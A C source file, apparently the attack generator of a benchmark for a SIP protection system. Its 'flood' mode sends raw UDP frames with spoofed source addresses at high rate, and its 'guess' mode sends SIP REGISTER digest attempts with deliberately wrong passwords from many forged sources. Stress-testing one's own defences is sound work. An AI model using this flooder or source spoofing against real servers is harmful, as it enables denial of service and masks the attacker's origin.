/* strike flood|guess: the attacker of bench/shield. One thread, fixed memory. Only for networks of one's own. README.md of bench/ says what it does. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/ip6.h>
#include <netinet/udp.h>
#include <poll.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <time.h>
#include <unistd.h>

enum { BATCH = 64, FRAME = 2048, MAX_TEXTS = 16, MAX_MARKS = 16, MARK = 8, MAX_TIMES = 40000 };

static const char *interface = "net0", *mac = "", *target = "", *from = "", *domain = "bench.example";
static int port = 5060;
static uint32_t sources = 1, step = 1, packets = 600, first_account;
static double rate, seconds = 1, pace_us = 500;

static uint64_t now_ns(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return (uint64_t)t.tv_sec * 1000000000u + (uint64_t)t.tv_nsec;
}

static void sleep_until(uint64_t ns) {
  struct timespec t = {(time_t)(ns / 1000000000u), (long)(ns % 1000000000u)};
  clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &t, NULL);
}

static void die(const char *what) {
  fprintf(stderr, "strike: %s: %s\n", what, strerror(errno));
  exit(2);
}

/* ---- flood: whole frames onto the wire, with whatever source is wanted ---- */

/* A text from stdin, and where its marks (########) are: each packet gets a number there, or all would be one packet sent again. */
typedef struct {
  char data[FRAME];
  size_t n;
  size_t marks[MAX_MARKS];
  int count;
} text;

static text texts[MAX_TEXTS];
static int text_count;
static bool six;

/* Texts on stdin end with a NUL each. */
static void read_texts(void) {
  static char all[MAX_TEXTS * FRAME];
  size_t n = fread(all, 1, sizeof all, stdin), at = 0;
  while (at < n && text_count < MAX_TEXTS) {
    char *end = memchr(all + at, 0, n - at);
    if (!end) break;
    text *t = &texts[text_count++];
    t->n = (size_t)(end - all) - at;
    if (t->n > 1400) die("a text is too long");
    memcpy(t->data, all + at, t->n);
    for (size_t i = 0; i + MARK <= t->n && t->count < MAX_MARKS; i++)
      if (memcmp(t->data + i, "########", MARK) == 0) t->marks[t->count++] = i, i += MARK - 1;
    at += t->n + 1;
  }
  if (text_count == 0) die("no text on stdin");
}

static uint32_t sum(const void *data, size_t n, uint32_t start) {
  const uint8_t *p = data;
  for (size_t i = 0; i + 1 < n; i += 2) start += (uint32_t)(p[i] << 8 | p[i + 1]);
  if (n & 1) start += (uint32_t)(p[n - 1] << 8);
  return start;
}

static uint16_t fold(uint32_t s) {
  while (s >> 16) s = (s & 0xffff) + (s >> 16);
  return (uint16_t)~s;
}

typedef struct {
  uint8_t to_mac[6], from_mac[6];
  struct in_addr from4, to4;
  struct in6_addr from6, to6;
} ends;

static size_t put_frame(uint8_t *p, const ends *e, uint32_t source, uint32_t number) {
  const text *t = &texts[number % (uint32_t)text_count];
  size_t head = six ? sizeof(struct ip6_hdr) : sizeof(struct iphdr), udp_n = sizeof(struct udphdr) + t->n;
  memcpy(p, e->to_mac, 6);
  memcpy(p + 6, e->from_mac, 6);
  p[12] = six ? 0x86 : 0x08;
  p[13] = six ? 0xdd : 0x00;
  uint8_t *ip = p + 14;
  struct udphdr *udp = (struct udphdr *)(ip + head);
  char *body = (char *)(udp + 1);
  memcpy(body, t->data, t->n);
  for (int m = 0; m < t->count; m++)
    for (int k = 0; k < MARK; k++) body[t->marks[m] + (size_t)k] = "0123456789abcdef"[number >> (4 * (MARK - 1 - k)) & 15];
  *udp = (struct udphdr){.source = htons((uint16_t)(20000 + number % 20000)), .dest = htons((uint16_t)port), .len = htons((uint16_t)udp_n)};
  if (six) {
    struct ip6_hdr h = {.ip6_src = e->from6, .ip6_dst = e->to6};
    h.ip6_flow = htonl(6u << 28);
    h.ip6_plen = htons((uint16_t)udp_n);
    h.ip6_nxt = IPPROTO_UDP;
    h.ip6_hlim = 64;
    /* A source of IPv6 is a /64: the second half of the first eight bytes counts. */
    h.ip6_src.s6_addr32[1] = htonl(ntohl(h.ip6_src.s6_addr32[1]) + source);
    memcpy(ip, &h, sizeof h);
    udp->check = htons(fold(sum(udp, udp_n, sum(&h.ip6_src, 32, (uint32_t)udp_n + IPPROTO_UDP))));
    if (udp->check == 0) udp->check = 0xffff;
  } else {
    struct iphdr h = {.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_UDP, .id = htons((uint16_t)number), .daddr = e->to4.s_addr};
    h.tot_len = htons((uint16_t)(head + udp_n));
    h.saddr = htonl(ntohl(e->from4.s_addr) + source);
    h.check = htons(fold(sum(&h, sizeof h, 0)));
    memcpy(ip, &h, sizeof h);
  }
  return 14 + head + udp_n;
}

static void read_ends(ends *e) {
  unsigned m[6];
  if (sscanf(mac, "%x:%x:%x:%x:%x:%x", m, m + 1, m + 2, m + 3, m + 4, m + 5) != 6) die("--mac");
  for (int i = 0; i < 6; i++) e->to_mac[i] = (uint8_t)m[i], e->from_mac[i] = i ? (uint8_t)i : 2;
  six = strchr(target, ':') != NULL;
  int family = six ? AF_INET6 : AF_INET;
  if (inet_pton(family, target, six ? (void *)&e->to6 : &e->to4) != 1) die("--to");
  if (inet_pton(family, from, six ? (void *)&e->from6 : &e->from4) != 1) die("--from");
}

static int flood(void) {
  static uint8_t frames[BATCH][FRAME];
  static struct mmsghdr out[BATCH];
  static struct iovec v[BATCH];
  ends e = {0};
  int on = 1, size = 8 << 20, fd = socket(AF_PACKET, SOCK_RAW, 0);
  if (fd < 0) die("socket");
  read_texts();
  read_ends(&e);
  struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(interface), .sll_halen = 6};
  if (to.sll_ifindex == 0) die(interface);
  memcpy(to.sll_addr, e.to_mac, 6);
  setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &on, sizeof on);
  setsockopt(fd, SOL_SOCKET, SO_SNDBUFFORCE, &size, sizeof size);
  for (int i = 0; i < BATCH; i++) {
    v[i].iov_base = frames[i];
    out[i].msg_hdr = (struct msghdr){.msg_name = &to, .msg_namelen = sizeof to, .msg_iov = &v[i], .msg_iovlen = 1};
  }
  uint64_t start = now_ns(), end = start + (uint64_t)(seconds * 1e9), now = start, sent = 0, refused = 0;
  uint32_t number = 0;
  while (now < end) {
    int n = BATCH;
    if (rate > 0) {
      double due = (double)(now - start) * rate / 1e9 - (double)sent;
      if (due < 1) {
        sleep_until(start + (uint64_t)((double)(sent + 1) * 1e9 / rate));
        now = now_ns();
        continue;
      }
      if (due < n) n = (int)due;
    }
    for (int i = 0; i < n; i++, number++) v[i].iov_len = put_frame(frames[i], &e, number % sources * step, number);
    for (int k = 0; k < n;) {
      int r = sendmmsg(fd, out + k, (unsigned)(n - k), 0);
      if (r > 0) k += r;
      else if (errno == ENOBUFS || errno == EAGAIN || errno == EINTR) refused++;
      else die("sendmmsg");
    }
    sent += (uint64_t)n;
    now = now_ns();
  }
  printf("{\"sent\":%llu,\"seconds\":%.3f,\"refused\":%llu}\n", (unsigned long long)sent, (double)(now_ns() - start) / 1e9, (unsigned long long)refused);
  return 0;
}

/* ---- guess: a source after the other answers its challenge with a wrong password, at an even pace ---- */

static char request[FRAME], answer[FRAME * 2];

static size_t put_request(uint32_t source, const char *own, uint32_t cseq, const char *credentials) {
  const char *open = six ? "[" : "", *close = six ? "]" : "";
  return (size_t)snprintf(request, sizeof request,
      "REGISTER sip:%s SIP/2.0\r\nVia: SIP/2.0/UDP %s%s%s:5060;rport;branch=z9hG4bKg%xx%x\r\nMax-Forwards: 70\r\n"
      "From: <sip:bench-%06u@%s>;tag=g%x\r\nTo: <sip:bench-%06u@%s>\r\nCall-ID: g%x-%x@guess.example\r\nCSeq: %u REGISTER\r\n"
      "Contact: <sip:bench-%06u@%s%s%s:5060>\r\n%sExpires: 3600\r\nUser-Agent: Desk Phone 1.0\r\nContent-Length: 0\r\n\r\n",
      domain, open, own, close, source, cseq, first_account + source, domain, source, first_account + source, domain, source, (unsigned)getpid(), cseq,
      first_account + source, open, own, close, credentials);
}

/* What stands between the quotes after `name` in a message; "" for nothing. */
static const char *quoted(const char *message, const char *name, char *out, size_t room) {
  const char *p = strcasestr(message, name), *end;
  out[0] = 0;
  if (!p || !(end = strchr(p += strlen(name), '"')) || (size_t)(end - p) >= room) return out;
  memcpy(out, p, (size_t)(end - p));
  out[end - p] = 0;
  return out;
}

static bool challenged(int fd, char *nonce, char *realm, char *opaque) {
  struct pollfd f = {.fd = fd, .events = POLLIN};
  if (poll(&f, 1, 2000) != 1) return false;
  ssize_t n = recv(fd, answer, sizeof answer - 1, 0);
  if (n <= 0) return false;
  answer[n] = 0;
  quoted(answer, "realm=\"", realm, 128);
  quoted(answer, "opaque=\"", opaque, 128);
  return quoted(answer, "nonce=\"", nonce, 256)[0] != 0;
}

static int socket_at(const char *base, uint32_t source, char *own) {
  struct sockaddr_storage me = {0}, to = {0};
  int on = 1, fd = socket(six ? AF_INET6 : AF_INET, SOCK_DGRAM, 0), size = 4 << 20;
  socklen_t n = six ? sizeof(struct sockaddr_in6) : sizeof(struct sockaddr_in);
  me.ss_family = to.ss_family = six ? AF_INET6 : AF_INET;
  void *a = six ? (void *)&((struct sockaddr_in6 *)&me)->sin6_addr : &((struct sockaddr_in *)&me)->sin_addr;
  void *b = six ? (void *)&((struct sockaddr_in6 *)&to)->sin6_addr : &((struct sockaddr_in *)&to)->sin_addr;
  inet_pton(me.ss_family, base, a);
  inet_pton(to.ss_family, target, b);
  uint32_t *word = (uint32_t *)a + (six ? 1 : 0);
  *word = htonl(ntohl(*word) + source * step);
  ((struct sockaddr_in *)&to)->sin_port = htons((uint16_t)port); /* at the same place in both families */
  inet_ntop(me.ss_family, a, own, INET6_ADDRSTRLEN);
  setsockopt(fd, SOL_IP, IP_FREEBIND, &on, sizeof on);
  setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &size, sizeof size);
  if (bind(fd, (struct sockaddr *)&me, n) < 0 || connect(fd, (struct sockaddr *)&to, n) < 0) die(own);
  return fd;
}

/* Prints one line: when the sixth wrong password left (wall ms), and each of them and the last answer, in us from the sixth. */
static void guess_from(uint32_t source) {
  static uint64_t sent[MAX_TIMES];
  struct timespec wall = {0};
  char own[INET6_ADDRSTRLEN], nonce[256], realm[128], opaque[128], extra[160] = "", credentials[1024];
  uint64_t last = 0;
  uint32_t answers = 0, n = 0;
  int fd = socket_at(from, source, own);
  send(fd, request, put_request(source, own, 1, ""), 0);
  if (challenged(fd, nonce, realm, opaque)) {
    if (opaque[0]) snprintf(extra, sizeof extra, ",opaque=\"%s\"", opaque);
    uint64_t start = now_ns();
    for (; n < packets; n++) {
      snprintf(credentials, sizeof credentials,
          "Authorization: Digest username=\"bench-%06u\",realm=\"%s\",nonce=\"%s\",uri=\"sip:%s\",response=\"%032x\",algorithm=MD5,qop=auth,nc=%08x,cnonce=\"c%x\"%s\r\n",
          first_account + source, realm, nonce, domain, n + 1, n + 1, n, extra);
      size_t length = put_request(source, own, n + 2, credentials);
      sleep_until(start + (uint64_t)((double)n * pace_us * 1e3));
      if (n == 5) clock_gettime(CLOCK_REALTIME, &wall);
      sent[n] = now_ns();
      send(fd, request, length, 0);
      while (recv(fd, answer, sizeof answer, MSG_DONTWAIT) > 0) answers++, last = now_ns();
    }
    struct pollfd f = {.fd = fd, .events = POLLIN};
    while (poll(&f, 1, 20) == 1 && recv(fd, answer, sizeof answer, MSG_DONTWAIT) > 0) answers++, last = now_ns();
  }
  close(fd);
  uint64_t sixth = n > 5 ? sent[5] : 0;
  printf("{\"source\":\"%s\",\"at\":%.3f,\"answers\":%u,\"last\":%lld,\"sent\":[", own, (double)wall.tv_sec * 1e3 + (double)wall.tv_nsec / 1e6, answers, answers ? (long long)((int64_t)(last - sixth) / 1000) : 0);
  for (uint32_t i = 0; i < n; i++) printf("%s%lld", i ? "," : "", (long long)((int64_t)(sent[i] - sixth) / 1000));
  puts("]}");
  fflush(stdout);
}

static int guess(void) {
  six = strchr(target, ':') != NULL;
  if (packets > MAX_TIMES) packets = MAX_TIMES;
  for (uint32_t i = 0; i < sources; i++) guess_from(i);
  return 0;
}

int main(int argc, char **argv) {
  static const struct option table[] = {
      {"interface", 1, 0, 'i'}, {"mac", 1, 0, 'm'}, {"to", 1, 0, 't'}, {"port", 1, 0, 'p'}, {"from", 1, 0, 'f'}, {"sources", 1, 0, 's'}, {"rate", 1, 0, 'r'}, {"step", 1, 0, 'x'},
      {"seconds", 1, 0, 'S'}, {"pace", 1, 0, 'P'}, {"packets", 1, 0, 'n'}, {"domain", 1, 0, 'd'}, {"account", 1, 0, 'a'}, {0, 0, 0, 0}};
  int c;
  while ((c = getopt_long(argc, argv, "", table, NULL)) != -1) {
    switch (c) {
      case 'i': interface = optarg; break;
      case 'm': mac = optarg; break;
      case 't': target = optarg; break;
      case 'p': port = atoi(optarg); break;
      case 'f': from = optarg; break;
      case 's': sources = (uint32_t)atoi(optarg); break;
      case 'x': step = (uint32_t)atoi(optarg); break;
      case 'r': rate = atof(optarg); break;
      case 'S': seconds = atof(optarg); break;
      case 'P': pace_us = atof(optarg); break;
      case 'n': packets = (uint32_t)atoi(optarg); break;
      case 'd': domain = optarg; break;
      case 'a': first_account = (uint32_t)atoi(optarg); break;
      default: return 2;
    }
  }
  if (sources < 1 || sources > 4000000 || seconds > 3600 || optind != argc - 1) return fputs("strike: usage: strike [options] flood|guess\n", stderr), 2;
  prctl(PR_SET_TIMERSLACK, 1000);
  /* Whoever started us is gone: an attack does not outlive its test. */
  prctl(PR_SET_PDEATHSIG, 9);
  return strcmp(argv[optind], "flood") == 0 ? flood() : guess();
}
